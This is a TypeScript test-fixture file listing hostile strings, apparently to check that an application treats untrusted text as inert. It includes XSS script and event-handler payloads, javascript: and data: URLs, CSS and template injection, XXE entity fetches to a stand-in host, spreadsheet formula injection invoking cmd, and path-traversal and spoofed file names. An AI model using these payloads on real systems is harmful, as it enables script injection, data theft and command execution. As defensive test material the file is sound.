/**
 * Texts that try to become more than text: markup, handlers, addresses, styles, templates, formulas, paths. Whatever of them
 * ran would count `top.tripped` up; whatever of them was fetched would be asked of {@link STOLEN}. All are short enough for
 * the shortest field there is, which holds 80 letters.
 */

/** Where nothing may ever be asked for anything. */
export const STOLEN = 'stolen.test'

const RUN = 'top.tripped++'
const HANDLERS = ['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin']

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//${STOLEN}/x.js></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `<script\n>${RUN}</script\n>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</text></svg><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${RUN} /></svg>`,
  `<math><mi//xlink:href="data:x,<script>${RUN}</script>">`,
  `<noscript><p title="</noscript><script>${RUN}</script>">`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `＜script＞${RUN}＜/script＞`,
]

const ELEMENTS = [
  ...HANDLERS.map((handler) => `<img src=x ${handler}=${RUN}>`),
  ...HANDLERS.map((handler) => `<svg ${handler}="${RUN}"><g/></svg>`),
  ...HANDLERS.slice(0, 4).map((handler) => `" ${handler}="${RUN}" x="`),
  ...HANDLERS.slice(0, 4).map((handler) => `' ${handler}='${RUN}' x='`),
  `<img src=x:x onerror=\n${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<img src="//${STOLEN}/pixel.png">`,
  `<img srcset="//${STOLEN}/pixel.png 2x">`,
  `<picture><source srcset=//${STOLEN}/p></picture>`,
  `<video poster=//${STOLEN}/p.png autoplay src=//${STOLEN}/v>`,
  `<audio src=x onerror=${RUN}>`,
  `<iframe src="//${STOLEN}/frame"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="//${STOLEN}/o.swf"></object>`,
  `<embed src="//${STOLEN}/e.swf">`,
  `<portal src=//${STOLEN}/p></portal>`,
  `<fencedframe></fencedframe><webview src=//${STOLEN}/w>`,
  `<link rel=stylesheet href=//${STOLEN}/s.css>`,
  `<link rel=dns-prefetch href=//${STOLEN}>`,
  `<meta http-equiv=refresh content="0;url=//${STOLEN}/">`,
  `<base href="//${STOLEN}/">`,
  `<form action=//${STOLEN}/f><button autofocus>x</form>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<body onpageshow=${RUN}>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}>`,
  `<svg><use href="//${STOLEN}/u.svg#x"/></svg>`,
  `<svg><image href="//${STOLEN}/i.png"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}>`,
  `<svg><style><img src=x onerror=${RUN}></style>`,
  `<math><mtext><mglyph><style><img src=x onerror=${RUN}>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<a href="//${STOLEN}/" ping="//${STOLEN}/">x</a>`,
  `<isindex type=image src=1 onerror=${RUN}>`,
  `<x contenteditable onblur=${RUN} tabindex=1>x</x>`,
  `<p style="background:url(//${STOLEN}/b)">x</p>`,
  `<div style=behavior:url(#default) onclick=${RUN}>`,
  `<image xlink:href="//${STOLEN}/x.svg"/>`,
]

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://%0a${RUN}`,
  `\u0001javascript:${RUN}`,
  `vbscript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  'data:text/html;base64,PHNjcmlwdD50b3AudHJpcHBlZCsrPC9zY3JpcHQ+',
  'data:image/svg+xml,<svg onload="top.tripped++"/>',
  `blob:https://${STOLEN}/1`,
  `file://${STOLEN}/share/x`,
  `\\\\${STOLEN}\\share\\x`,
  `https://user:secret@${STOLEN}/`,
  `https:/\\${STOLEN}/x`,
  `//${STOLEN}/x`,
  'ms-msdt:/id PCWDiagnostic /skip',
  `<javascript:${RUN}>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#x6a;avascript:${RUN}">x</a>`,
  `<a xlink:href="javascript:${RUN}">x</a>`,
  `[x](javascript:${RUN})`,
  `![x](//${STOLEN}/md.png)`,
  `![x][y]\n\n[y]: //${STOLEN}/y`,
  `[x]: javascript:${RUN}`,
]

const STYLES = [
  `</style><style>@import "//${STOLEN}/i"</style>`,
  `@import url(//${STOLEN}/i.css);`,
  `}*{background:url(//${STOLEN}/b)}`,
  `red;background:url(//${STOLEN}/b)`,
  `expression(${RUN})`,
  `url(javascript:${RUN})`,
  `'/**/;x:url(//${STOLEN}/c)/*`,
]

const OTHERS = [
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `<?xml version="1.0"?><!DOCTYPE x>`,
  `<!DOCTYPE svg [<!ENTITY x SYSTEM "//${STOLEN}/e">]>&x;`,
  `<?xml-stylesheet href="//${STOLEN}/x.xsl"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `<!--[if IE]><script>${RUN}</script><![endif]-->`,
  '&lt;&#0;&amp;&nbsp;&bogus;&#x110000;',
  `\u0000<script>${RUN}</script>`,
  `\u202e>tpircs/<${RUN}>tpircs<`,
  `<scr\u200bipt>${RUN}</scr\u200bipt>`,
  `\ud800<script>${RUN}</script>\udfff`,
  `%%{init: {"securityLevel":"loose"}}%%`,
  `click x call ${RUN}`,
  `title: x\n  section: <img src=x onerror=${RUN}>`,
  `"}]};${RUN};//`,
  '__proto__',
  'constructor',
  `=HYPERLINK("//${STOLEN}/?"&A1,"x")`,
  `=cmd|'/c calc'!A0`,
  `+SUM(1+1)*cmd|'/c calc'!A0`,
  `-2+3+cmd|'/c calc'!A0`,
  '@SUM(1+1)',
  '\t=1+1',
  `a,b";=1+1\r\n=1+1`,
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/passwd\u0000.png',
  'CON',
  '.hidden',
  'annual\u202egpj.exe',
]

/** All of them, each once. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([...SCRIPTS, ...ELEMENTS, ...ADDRESSES, ...STYLES, ...OTHERS]),
]

/** Every `step`th of them, as far as `count`: a slice that has some of each kind. */
export function someHostileTexts(count: number): readonly string[] {
  if (count >= HOSTILE_TEXTS.length) return HOSTILE_TEXTS
  const step = HOSTILE_TEXTS.length / count
  return Array.from({ length: count }, (_, index) => HOSTILE_TEXTS[Math.floor(index * step)] as string)
}
